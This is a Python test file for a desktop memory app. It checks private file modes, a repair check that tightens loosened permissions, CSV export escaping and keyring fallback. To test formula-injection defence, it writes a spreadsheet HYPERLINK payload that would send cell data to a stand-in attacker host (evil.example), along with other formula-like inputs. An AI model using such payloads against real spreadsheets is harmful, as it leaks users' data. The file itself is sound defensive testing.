"""Files and processes: only this account can read the data folder and what the app writes, doctor
repairs modes that drifted, CSV exports cannot run formulas, and a broken keyring setting falls back
to the token file with one clear line. Real engine, real SQLite, the real CLI in a subprocess."""

from __future__ import annotations

import csv
import os
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from support.mcp import token_env

from hindsight_desktop.core.clients import ClientBook
from hindsight_desktop.core.diagnose.checks import check_file_modes
from hindsight_desktop.core.portable.export_formats import csv_safe
from hindsight_desktop.mcp.auth import TOKEN_FILE, ClientRegistry, TokenVault

pytestmark = pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX permissions")


def mode(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


@pytest.fixture(autouse=True)
def permissive_umask() -> Iterator[None]:
    """The common default umask: without care, every new file would be readable by other accounts."""
    old = os.umask(0o022)
    yield
    os.umask(old)


def test_the_data_folder_and_the_database_files_are_private(engine):
    engine.write("My bank is Northwind Credit Union.", explicit=True)
    data = engine.data_dir
    assert mode(data) == 0o700
    files = {p.name: mode(p) for p in data.iterdir() if p.is_file()}
    assert {"memory.sqlite3", "memory.sqlite3-wal", "memory.sqlite3-shm"} <= set(files)
    assert set(files.values()) == {0o600}, files


def test_the_token_file_is_private(engine):
    with token_env():
        ClientRegistry(ClientBook.of(engine), TokenVault(engine.data_dir)).add("alice")
    assert mode(engine.data_dir / TOKEN_FILE) == 0o600


@pytest.mark.parametrize("fmt", ["json", "jsonl", "md", "csv"])
def test_exports_are_written_private_and_whole(engine, tmp_path: Path, fmt: str):
    engine.write("I keep my spare key under the blue flowerpot.", explicit=True)
    target = tmp_path / "exports" / f"memories.{fmt}"
    target.parent.mkdir()
    target.write_text("an older export")
    os.chmod(target, 0o644)
    engine.export(fmt, target)
    assert mode(target) == 0o600
    assert "flowerpot" in target.read_text(encoding="utf-8")
    assert [p.name for p in target.parent.iterdir()] == [target.name]  # no temporary file left behind


def test_doctor_repairs_modes_and_says_what_it_fixed(engine):
    engine.write("My locker code is in the notebook.", explicit=True)
    data = engine.data_dir
    with token_env():
        ClientRegistry.open(data).add("alice")
    os.chmod(data, 0o755)
    os.chmod(data / "memory.sqlite3", 0o644)
    os.chmod(data / TOKEN_FILE, 0o664)
    (data / "exports").mkdir(mode=0o755)
    (data / "exports" / "old.csv").write_text("id\n")
    os.chmod(data / "exports" / "old.csv", 0o644)
    outside = data.parent / "shared-models"
    outside.mkdir(mode=0o755)
    (data / "linked").symlink_to(outside, target_is_directory=True)

    finding = check_file_modes(data)
    assert finding.ok
    assert finding.detail.startswith("fixed 5 path(s) other accounts could read:")
    assert f"{data / 'memory.sqlite3'} was 644, now 600" in finding.detail
    assert f"{data} was 755, now 700" in finding.detail
    assert mode(data) == 0o700 and mode(data / "exports") == 0o700
    assert {mode(p) for p in (data / "memory.sqlite3", data / TOKEN_FILE, data / "exports" / "old.csv")} == {0o600}
    assert mode(outside) == 0o755  # a symbolic link is not followed out of the data folder

    again = check_file_modes(data)
    assert again.ok and again.data["fixed"] == [] and "readable only by you" in again.detail


def test_an_existing_database_is_narrowed_when_opened(tmp_path: Path, embedder):
    from hindsight_desktop.core.engine import MemoryEngine

    data = tmp_path / "data"
    with MemoryEngine(data, embedder=embedder):
        pass
    os.chmod(data / "memory.sqlite3", 0o644)
    with MemoryEngine(data, embedder=embedder) as engine:
        engine.write("I water the plants on Sundays.", explicit=True)
        assert mode(data / "memory.sqlite3") == 0o600
        assert mode(data / "memory.sqlite3-wal") == 0o600


def test_csv_export_cannot_run_formulas(engine, tmp_path: Path):
    dangerous = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3 is my lucky sum", "@SUM(A1:A9)"]
    for text in dangerous:
        engine.write(text, explicit=True, gate=False)
    engine.write("A harmless note about tea.", explicit=True)
    target = tmp_path / "memories.csv"
    engine.export("csv", target)
    with open(target, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    contents = {row["content"] for row in rows}
    assert {"'" + text for text in dangerous} <= contents
    assert "A harmless note about tea." in contents
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values() if cell)
    assert csv_safe("\tcmd") == "'\tcmd" and csv_safe("\r=1") == "'\r=1" and csv_safe("2-1") == "2-1"


@pytest.mark.parametrize("backend", ["", "no.such.module.Keyring", "garbage"])
def test_a_broken_keyring_setting_falls_back_to_the_token_file(tmp_path: Path, backend: str):
    env = {k: v for k, v in os.environ.items() if k != "HINDSIGHT_TOKEN_STORE"}
    env.update({"PYTHON_KEYRING_BACKEND": backend, "HINDSIGHT_DATA_DIR": str(tmp_path / "data"), "HOME": str(tmp_path)})
    proc = subprocess.run(
        [sys.executable, "-m", "hindsight_desktop", "clients", "add", "alice"],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    warnings = [line for line in proc.stderr.splitlines() if line.startswith("warning:")]
    assert len(warnings) == 1, proc.stderr
    assert f"PYTHON_KEYRING_BACKEND={backend!r} names no usable keyring" in warnings[0]
    token_file = tmp_path / "data" / TOKEN_FILE
    assert f"the token is stored in {token_file}" in warnings[0]
    assert proc.stdout.strip() in token_file.read_text(encoding="utf-8")
    assert mode(token_file) == 0o600
